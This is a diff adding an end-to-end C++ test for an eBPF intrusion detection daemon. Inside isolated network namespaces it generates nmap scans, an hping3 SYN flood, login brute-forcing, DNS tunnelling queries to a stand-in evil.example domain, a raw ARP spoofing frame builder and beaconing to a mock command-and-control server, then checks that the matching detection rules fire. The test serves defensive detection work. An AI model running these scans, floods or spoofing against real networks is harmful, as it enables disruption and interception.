@@ -1,0 +1,239 @@
+// End to end: the behavioural rules on real traffic. netguardd (eBPF) on the sensor's veth with
+// a rules file; attacks from peer address A, benign traffic from peer address B:
+//   - nmap FIN, XMAS and UDP scans            -> fin_scan, xmas_scan, udp_scan (T1046)
+//   - an hping3 SYN flood (bounded count)     -> syn_flood (T1498)
+//   - many short connections to a login port  -> brute_force (T1110)
+//   - dig TXT queries with long random labels -> dns_tunnel (T1071.004), from ring DNS samples
+//   - ARP replies giving an address a new MAC -> arp_spoof (T1557.002), from ring ARP samples
+//   - periodic connections to one service     -> beaconing (T1071)
+//   - B: a few HTTP GETs and a DNS lookup     -> nothing
+// Then `ngctl rules`: list, disable, and a reload of an invalid file refused with the rule and
+// line named while the running rules stay. Every wait is bounded.
+#include <arpa/inet.h>
+#include <gtest/gtest.h>
+#include <linux/if_packet.h>
+#include <net/ethernet.h>
+#include <sys/socket.h>
+
+#include <fstream>
+#include <map>
+#include <nlohmann/json.hpp>
+#include <random>
+#include <thread>
+
+#include "daemon_fixture.h"
+#include "http_server.h"
+#include "netns_lab.h"
+#include "traffic.h"
+
+namespace netguard::e2e {
+namespace {
+
+using nlohmann::json;
+
+constexpr milliseconds kAlertVisible{15000};
+
+class RulesE2eTest : public DaemonE2eTest {
+ protected:
+  RulesE2eTest()
+      : DaemonE2eTest("rules", {"nmap", "hping3", "dnsmasq", "curl", "timeout"}) {}  // + dig
+
+  void SetUp() override {
+    ASSERT_NO_FATAL_FAILURE(DaemonE2eTest::SetUp());
+    if (IsSkipped()) return;
+    web_ = std::make_unique<HttpServer>(lab_->sensor().fd(), lab_->sensor_ip(), "hello\n");
+    login_ = std::make_unique<HttpServer>(lab_->sensor().fd(), lab_->sensor_ip(), "denied\n");
+    beacon_ = std::make_unique<HttpServer>(lab_->sensor().fd(), lab_->sensor_ip(), "task\n");
+    rules_ = state_ + "/rules.yaml";
+    WriteRules(ValidRules());
+    ASSERT_NO_FATAL_FAILURE(
+        WriteConfig("flows:\n  idle_timeout: 2s\n  sweep_interval: 200ms\n"
+                    "rules:\n  file: " +
+                    rules_ + "\n"));
+    dnsmasq_log_ = state_ + "/dnsmasq.log";
+    dump_on_failure_.push_back(dnsmasq_log_);
+    dnsmasq_ = std::make_unique<ChildProcess>(
+        std::vector<std::string>{"/usr/sbin/dnsmasq", "--keep-in-foreground", "--no-resolv",
+                                 "--no-hosts", "--bind-interfaces",
+                                 "--listen-address=" + lab_->sensor_ip(), "--port=53",
+                                 "--address=/#/192.0.2.1", "--pid-file=", "--user=root"},
+        ChildProcess::Options{.netns_fd = lab_->sensor().fd(), .output_path = dnsmasq_log_});
+  }
+
+  void TearDown() override {
+    dnsmasq_.reset();
+    web_.reset();
+    login_.reset();
+    beacon_.reset();
+    DaemonE2eTest::TearDown();
+  }
+
+  std::string ValidRules() const {
+    return "rules:\n"
+           "  syn_flood: {threshold: 500, window: 10s}\n"
+           "  brute_force:\n"
+           "    threshold: 8\n"
+           "    ports: [" +
+           std::to_string(login_->port()) +
+           "]\n"
+           "  dns_tunnel: {threshold: 10}\n"
+           "  beaconing: {threshold: 6, min_interval_s: 0.2, max_jitter: 0.3}\n";
+  }
+
+  void WriteRules(const std::string& yaml) const {
+    std::ofstream out(rules_, std::ios::trunc);
+    out << yaml;
+  }
+
+  /// Runs a tool in the peer namespace, bounded to `seconds`.
+  int InPeer(std::vector<std::string> argv, int seconds = 30, std::string* output = nullptr) {
+    std::vector<std::string> full = {"ip",      "netns", "exec", lab_->peer().name(),
+                                     "timeout", "-k",    "2",    std::to_string(seconds)};
+    full.insert(full.end(), argv.begin(), argv.end());
+    std::string ignored;
+    return RunCommand(full, output ? output : &ignored);
+  }
+
+  int Curl(const std::string& source_ip, uint16_t port) {
+    return InPeer({"curl", "-sS", "--noproxy", "*", "--interface", source_ip, "--max-time", "5",
+                   "http://" + lab_->sensor_ip() + ":" + std::to_string(port) + "/"},
+                  10);
+  }
+
+  /// Two ARP replies from the peer's interface: `ip` is at 02:..:01, then at 02:..:02.
+  void SendArpSpoof(const std::string& ip) {
+    Fd raw = SocketIn(lab_->peer().fd(), AF_PACKET, SOCK_RAW, htons(ETH_P_ARP));
+    sockaddr_ll to{};
+    to.sll_family = AF_PACKET;
+    to.sll_ifindex = IfIndexIn(lab_->peer().fd(), lab_->peer_if());
+    to.sll_halen = 6;
+    std::fill_n(to.sll_addr, 6, 0xff);
+    const in_addr addr = Ipv4(ip);
+    for (uint8_t mac_last : {1, 2}) {
+      uint8_t frame[42] = {};
+      std::fill_n(frame, 6, 0xff);                          // broadcast
+      const uint8_t mac[6] = {0x02, 0, 0, 0, 0, mac_last};  // source MAC
+      std::copy_n(mac, 6, frame + 6);
+      frame[12] = 0x08, frame[13] = 0x06;                // ARP
+      const uint8_t head[8] = {0, 1, 8, 0, 6, 4, 0, 2};  // Ethernet/IPv4, reply
+      std::copy_n(head, 8, frame + 14);
+      std::copy_n(mac, 6, frame + 22);
+      std::memcpy(frame + 28, &addr, 4);
+      std::fill_n(frame + 32, 6, 0xff);
+      std::memcpy(frame + 38, &addr, 4);
+      ASSERT_EQ(
+          sendto(raw.get(), frame, sizeof(frame), 0, reinterpret_cast<sockaddr*>(&to), sizeof(to)),
+          static_cast<ssize_t>(sizeof(frame)))
+          << strerror(errno);
+      std::this_thread::sleep_for(milliseconds(50));
+    }
+  }
+
+  /// Every stored alert, by detector.
+  std::multimap<std::string, json> AlertsByDetector() const {
+    std::multimap<std::string, json> out;
+    for (const json& a : Ctl({"alerts"}).objects) out.emplace(Str(a, "detector"), a);
+    return out;
+  }
+
+  std::unique_ptr<HttpServer> web_;
+  std::unique_ptr<HttpServer> login_;
+  std::unique_ptr<HttpServer> beacon_;  // a command-and-control server polled periodically
+  std::unique_ptr<ChildProcess> dnsmasq_;
+  std::string rules_;
+  std::string dnsmasq_log_;
+};
+
+TEST_F(RulesE2eTest, AttacksRaiseTheirRulesBenignTrafficNothingAndRulesAreManagedLive) {
+  ASSERT_NO_FATAL_FAILURE(StartDaemon());
+  ASSERT_TRUE(WaitForLog("rules: 21 from " + rules_, 1)) << "the rules file is in force";
+  const std::string a = lab_->peer_ip_a();
+  const std::string b = lab_->peer_ip_b();
+  const std::string sensor = lab_->sensor_ip();
+
+  // Benign, from B.
+  for (int i = 0; i < 3; ++i) EXPECT_EQ(Curl(b, web_->port()), 0);
+  std::string answer;
+  EXPECT_EQ(InPeer({"dig", "-b", b, "@" + sensor, "+tries=1", "+time=2", "+short", "A",
+                    "www.example.com"},
+                   10, &answer),
+            0)
+      << answer;
+
+  // Attacks, from A.
+  for (const char* kind : {"-sF", "-sX"}) {
+    EXPECT_EQ(InPeer({"nmap", kind, "-Pn", "-n", "-p", "1-40", "--max-retries", "0", "-S", a, "-e",
+                      lab_->peer_if(), sensor}),
+              0);
+  }
+  EXPECT_EQ(InPeer({"nmap", "-sU", "-Pn", "-n", "-p", "1-40", "--max-retries", "0", "--min-rate",
+                    "200", "-S", a, "-e", lab_->peer_if(), sensor}),
+            0);
+  EXPECT_EQ(InPeer({"hping3", "-q", "-S", "-p", std::to_string(web_->port()), "-i", "u200", "-c",
+                    "1500", "-a", a, sensor},
+                   20),
+            0);
+  for (int i = 0; i < 10; ++i) Curl(a, login_->port());
+  std::mt19937 random(7);
+  for (int i = 0; i < 12; ++i) {
+    std::string label;
+    for (int c = 0; c < 40; ++c) label += "abcdefghijklmnopqrstuvwxyz0123456789"[random() % 36];
+    InPeer({"dig", "-b", a, "@" + sensor, "+tries=1", "+time=1", "TXT", label + ".t.evil.example"},
+           5);
+  }
+  for (int i = 0; i < 7; ++i) {
+    Curl(a, beacon_->port());
+    std::this_thread::sleep_for(milliseconds(300));
+  }
+  // Last: the sensor's neighbour entry for A now points at a bogus MAC.
+  ASSERT_NO_FATAL_FAILURE(SendArpSpoof(a));
+
+  const std::map<std::string, std::string> expected = {
+      {"rule.fin_scan", "T1046"},      {"rule.xmas_scan", "T1046"},
+      {"rule.udp_scan", "T1046"},      {"rule.syn_flood", "T1498"},
+      {"rule.brute_force", "T1110"},   {"rule.dns_tunnel", "T1071.004"},
+      {"rule.arp_spoof", "T1557.002"}, {"rule.beaconing", "T1071"},
+  };
+  std::multimap<std::string, json> alerts;
+  WaitFor(
+      [&] {
+        alerts = AlertsByDetector();
+        for (const auto& [detector, technique] : expected) {
+          if (!alerts.count(detector)) return false;
+        }
+        return true;
+      },
+      kAlertVisible, milliseconds(250));
+  for (const auto& [detector, technique] : expected) {
+    auto it = alerts.find(detector);
+    ASSERT_NE(it, alerts.end()) << "no " << detector
+                                << " alert; status: " << Ctl({"status"}).output;
+    EXPECT_EQ(Str(it->second, "mitreTechnique"), technique) << it->second.dump();
+    EXPECT_EQ(Str(it->second, "srcAddr"), a) << it->second.dump();
+  }
+  for (const auto& [detector, alert] : alerts) {
+    EXPECT_NE(Str(alert, "srcAddr"), b) << "benign traffic alerted: " << alert.dump();
+  }
+
+  // Rules managed live.
+  CtlResult listed = Ctl({"rules"});
+  ASSERT_EQ(listed.code, 0) << listed.output;
+  EXPECT_EQ(listed.objects.size(), 21u);
+  CtlResult disabled = Ctl({"rules", "disable", "fin_scan"});
+  ASSERT_EQ(disabled.code, 0) << disabled.output;
+  ASSERT_EQ(disabled.objects.size(), 1u);
+  EXPECT_FALSE(disabled.objects[0].value("enabled", true));
+  EXPECT_NE(Ctl({"rules", "enable", "no_such_rule"}).code, 0);
+  WriteRules("rules:\n  port_scan:\n    threshold: nope\n");
+  const CtlResult refused = Ctl({"rules", "reload"});
+  EXPECT_NE(refused.code, 0);
+  EXPECT_NE(refused.output.find(rules_ + ":3: rule port_scan: threshold"), std::string::npos)
+      << refused.output;
+  WriteRules(ValidRules());
+  const CtlResult reloaded = Ctl({"rules", "reload"});
+  ASSERT_EQ(reloaded.code, 0) << reloaded.output;
+  EXPECT_EQ(reloaded.objects.size(), 21u);
+}
+
+}  // namespace
+}  // namespace netguard::e2e
